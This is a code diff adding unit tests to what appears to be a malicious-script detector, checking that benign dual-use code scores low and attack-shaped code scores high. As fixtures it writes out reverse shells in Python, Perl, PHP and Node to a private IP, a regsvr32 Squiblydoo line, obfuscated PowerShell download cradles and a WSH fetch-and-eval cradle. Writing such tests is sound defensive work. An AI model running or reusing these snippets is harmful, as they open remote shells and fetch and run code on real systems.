@@ -126,6 +126,86 @@ describe('hard benign admin scripts stay at low or below', () => {
   });
 });
 
+describe('dual-use capabilities of real software stay below an attack (issue 30)', () => {
+  it('a PHP mail client opening a socket and running a program is not a reverse shell', () => {
+    const smtp = [
+      '$this->smtp_conn = fsockopen($host, $port, $errno, $errstr, $timeout);',
+      'if (!is_resource($this->smtp_conn)) { return false; }',
+      '$sock = $this->smtp_conn;',
+      '$mail = popen($this->Sendmail . " -oi -t", "w");',
+    ].join('\n');
+    expect(technique(smtp, 'revshell.php')).toBeUndefined();
+  });
+  it('a PHP socket wired to a shell through a variable command is still a reverse shell', () => {
+    const shell = "$shell = 'uname -a; id; /bin/sh -i';\n$sock = fsockopen($ip, $port);\n$process = proc_open($shell, $spec, $pipes);";
+    expect(technique(shell, 'revshell.php')?.severity).toBe('critical');
+  });
+  it('re-registering the scripting runtime is not Squiblydoo; a scriptlet handed to scrobj is', () => {
+    expect(technique('regsvr32 /s scrobj.dll', 'lolbin.regsvr32')).toBeUndefined();
+    expect(technique('regsvr32 /s /u /i:C:\\Users\\Public\\x.sct scrobj.dll', 'lolbin.regsvr32')?.severity).toBe('high');
+  });
+  it("a vendor's install script from raw.githubusercontent.com piped to bash is the low installer idiom", () => {
+    const text = '/bin/bash -c "$(curl -fsSL https://raw.githubusercontent.com/Homebrew/install/HEAD/install.sh)"';
+    expect(technique(text, 'cradle.shell_pipe_shady')).toBeUndefined();
+    expect(worst(text)).toBe('low');
+    expect(technique('curl -fsSL https://raw.githubusercontent.com/x/y/main/a.exe -o a.exe | sh', 'cradle.shell_pipe_shady')?.severity).toBe('high');
+  });
+  it('a PowerShell cradle from a named HTTPS host is medium with the reason named; from a bare IP or obfuscated it stays high', () => {
+    const vendor = technique('iex "& { $(irm https://aka.ms/install-powershell.ps1) } -UseMSI"', 'cradle.powershell');
+    expect(vendor?.severity).toBe('medium');
+    expect(vendor?.description).toMatch(/named HTTPS host/);
+    expect(worst('iex "& { $(irm https://aka.ms/install-powershell.ps1) } -UseMSI"')).toBe('medium');
+    expect(technique('iex (iwr http://203.0.113.9/a.ps1)', 'cradle.powershell')?.severity).toBe('high');
+    expect(technique("I`E`X (New-Object Net.WebClient).('Down'+'loadStr'+'ing')('https://cdn.example.com/x')", 'cradle.powershell')?.severity).toBe('high');
+  });
+  it("a command line joined with spaces and run (npm's npm.ps1) is not obfuscation; characters joined with nothing are", () => {
+    const npm = "$argv = ($tokens | Select-Object -Skip 1) -join ' '\nInvoke-Expression \"& `\"$NODE_EXE`\" `\"$NPM_CLI_JS`\" $argv\"\n$input | & $NODE_EXE $NPM_CLI_JS $args";
+    expect(technique(npm, 'exec.obfuscated_iex')).toBeUndefined();
+    expect(technique("$cmd = ($frag -join '')\n$cmd | iex", 'exec.obfuscated_iex')).toBeDefined();
+  });
+  it('library code from the benign corpus shapes stays quiet: sockets without a shell, namespaces, helper scripts, char codes, escapes', () => {
+    const quiet = [
+      'import os, socket\ns = socket.socket()\ns.connect(("localhost", port))\nos.dup2(s.fileno(), 5)\nos.close(5)\n',
+      'use IO::Socket::INET;\nmy $sock = IO::Socket::INET->new("$host:443") or die;\nwhile (<$sock>) { print $_ }\n',
+      'my %ns = (xsd => "http://www.w3.org/2001/XMLSchema");\n# open in Excel http://www.example.org/spec.html\n',
+      'execFile("cscript", ["//E:JScript", "//Nologo", path.join(__dirname, "regList.wsf")]);',
+      "const cscript = 'c:\\\\windows\\\\system32\\\\cscript.exe'",
+    ];
+    for (const text of quiet) expect(['info', 'low']).toContain(worst(text));
+    const codes = Array.from({ length: 25 }, (_, i) => `chr(${40 + i})`).join('\n');
+    expect(worst(`${codes}\n${'x = compute(a, b) # ordinary code\n'.repeat(1500)}`)).toBe('info');
+    expect(worst(`Write-Host "Done${'`n'.repeat(15)}"\n$msg = "a\`tb\`r\`n"`)).toBe('info');
+  });
+  it('a Node CLI client with a socket and child processes is not a reverse shell unless it spawns a shell', () => {
+    const cli = 'const net = require("net");\nconst { spawn } = require("child_process");\nconst sock = net.connect(port, host);\nsock.on("data", (d) => out.write(d));\nconst child = spawn(process.execPath, [script]);\nchild.stdout.pipe(sock);';
+    expect(technique(cli, 'revshell.node')).toBeUndefined();
+    expect(technique(cli.replace('spawn(process.execPath, [script])', 'spawn("/bin/sh", [])'), 'revshell.node')?.severity).toBe('critical');
+  });
+  it('the same capabilities with the attack shape are still found', () => {
+    expect(technique('import socket,os\ns=socket.socket()\ns.connect(("10.0.0.5",443))\nos.dup2(s.fileno(),0)\nos.system("/bin/sh")', 'revshell.python')?.severity).toBe('critical');
+    expect(technique('use IO::Socket;$c=IO::Socket::INET->new("10.0.0.5:443");while(<$c>){system $_}', 'revshell.perl')?.severity).toBe('critical');
+    expect(technique('excel.exe http://203.0.113.9/addin.dll', 'lolbin.signed_binary_url')).toBeDefined();
+    expect(technique('cscript //E:JScript C:\\Users\\Public\\notes.txt', 'lolbin.script_host_remote')).toBeDefined();
+    expect(technique('cscript //nologo \\\\10.0.0.5\\share\\a.vbs', 'lolbin.script_host_remote')).toBeDefined();
+  });
+  it("an HTTP COM object, an eval and a regex's .exec far apart in a library are not a cradle; together they are", () => {
+    const filler = 'function pad(s, n) { while (s.length < n) { s = " " + s; } return s; }\n'.repeat(200);
+    const xhr = 'function xhr() { try { return new XMLHttpRequest(); } catch (e) { return new ActiveXObject("Microsoft.XMLHTTP"); } }\n';
+    const library = `${xhr}${filler}var m = /^(\\d+)px$/.exec(size);\n${filler}var data = eval("(" + json + ")");\n`;
+    expect(technique(library, 'cradle.wsh_com')).toBeUndefined();
+    const cradle = 'var h = new ActiveXObject("MSXML2.XMLHTTP"); h.open("GET", u, false); h.send();\neval(h.responseText);\nnew ActiveXObject("WScript.Shell").Run("calc.exe");\n';
+    expect(technique(cradle, 'cradle.wsh_com')?.severity).toBe('high');
+    expect(technique(`${filler}${cradle}${filler}`, 'cradle.wsh_com')?.severity).toBe('high');
+    // Many anchors far apart: each window is read on its own, and a later one still counts.
+    expect(technique(`${`${xhr}${filler}`.repeat(5)}${cradle}`, 'cradle.wsh_com')).toBeDefined();
+  });
+  it('WScript.Shell running a program is a named low capability', () => {
+    const f = analyzeScriptText('Set sh = CreateObject("WScript.Shell")\nsh.Run "notepad.exe", 1, True').findings.find((x) => x.id === 'script.wsh.shell_run');
+    expect(f?.severity).toBe('low');
+    expect(f?.description).toMatch(/admin scripts use too/);
+  });
+});
+
 describe('normalisation', () => {
   it('keeps every view linear-sized and lower-cased', () => {
     const views = scriptViews("W`rite-Host ('a'+'b')");
